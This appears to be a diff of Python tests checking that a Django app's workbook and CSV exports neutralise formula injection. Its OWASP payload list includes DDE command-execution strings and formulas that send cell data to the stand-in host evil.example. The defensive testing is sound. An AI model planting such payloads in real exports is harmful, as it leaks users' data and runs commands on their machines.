@@ -13,7 +13,7 @@ from clinlead import exports
 # OWASP, "CSV Injection": the payloads its page lists, and the leading characters it names.
 OWASP_PAYLOADS = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click for details\")",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
     "+1+1",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+9)*cmd|' /C calc'!A0",
@@ -22,7 +22,7 @@ OWASP_PAYLOADS = [
     "\r=1+1",
     "\n-3+3+cmd|' /C calc'!D2",
     " =1+2",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
 ]
 HARMLESS = ["Ann", "O'Neil", "Smith-Jones", "a=b", "", "100%"]
 
@@ -42,11 +42,15 @@ def test_ordinary_text_and_numbers_are_left_alone(value):
 
 
 def test_no_cell_of_a_workbook_is_a_formula_whatever_the_text():
-    data = exports.workbook_bytes({"Leaders": (["Leader", "Index"], [[p, 3.5] for p in OWASP_PAYLOADS + HARMLESS])})
+    data = exports.workbook_bytes(
+        {"Leaders": (["Leader", "Index"], [[p, 3.5] for p in OWASP_PAYLOADS + HARMLESS])}
+    )
     sheet = load_workbook(io.BytesIO(data))["Leaders"]
     cells = [row[0] for row in sheet.iter_rows(min_row=2)]
     # Shown as typed (XML reads a carriage return back as a line feed).
-    assert [c.value for c in cells] == [v.replace("\r", "\n") or None for v in OWASP_PAYLOADS + HARMLESS]
+    assert [c.value for c in cells] == [
+        v.replace("\r", "\n") or None for v in OWASP_PAYLOADS + HARMLESS
+    ]
     assert all(c.data_type == "s" for c in cells if c.value)
     assert all(c.quotePrefix for c in cells[: len(OWASP_PAYLOADS)])
 
@@ -67,7 +71,9 @@ def test_the_leader_index_export_holds_a_formula_name_as_text(client):
     user = User.objects.create(username="exec")
     RoleGrant.objects.create(user=user, role=Role.EXECUTIVE, organisation=world.org)
     client.force_login(user)
-    book = load_workbook(io.BytesIO(client.get(reverse("leaderindex:export", kwargs={"pk": cycle.pk})).content))
+    book = load_workbook(
+        io.BytesIO(client.get(reverse("leaderindex:export", kwargs={"pk": cycle.pk})).content)
+    )
     (name,) = [row[0] for row in book["Leaders"].iter_rows(min_row=2)]
     assert name.value.startswith("=HYPERLINK") and name.data_type == "s"
 
@@ -81,10 +87,16 @@ def test_the_audit_csv_writes_a_formula_as_apostrophe_text(client):
     org = Organisation.objects.create(name="Test Trust", slug="test-trust")
     user = User.objects.create(username="auditor")
     RoleGrant.objects.create(user=user, role=Role.AUDITOR, organisation=org)
-    AuditEvent.objects.create(action="org.renamed", organisation=org, object_repr=OWASP_PAYLOADS[0],
-                              actor_label="=HYPERLINK(\"http://x\")")
+    AuditEvent.objects.create(
+        action="org.renamed",
+        organisation=org,
+        object_repr=OWASP_PAYLOADS[0],
+        actor_label='=HYPERLINK("http://x")',
+    )
     client.force_login(user)
-    body = b"".join(client.get(reverse("audit:export", kwargs={"slug": org.slug})).streaming_content).decode()
+    body = b"".join(
+        client.get(reverse("audit:export", kwargs={"slug": org.slug})).streaming_content
+    ).decode()
     rows = list(csv.reader(io.StringIO(body)))
     written = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell or "cmd|" in cell]
     assert written and all(cell.startswith("'") for cell in written)
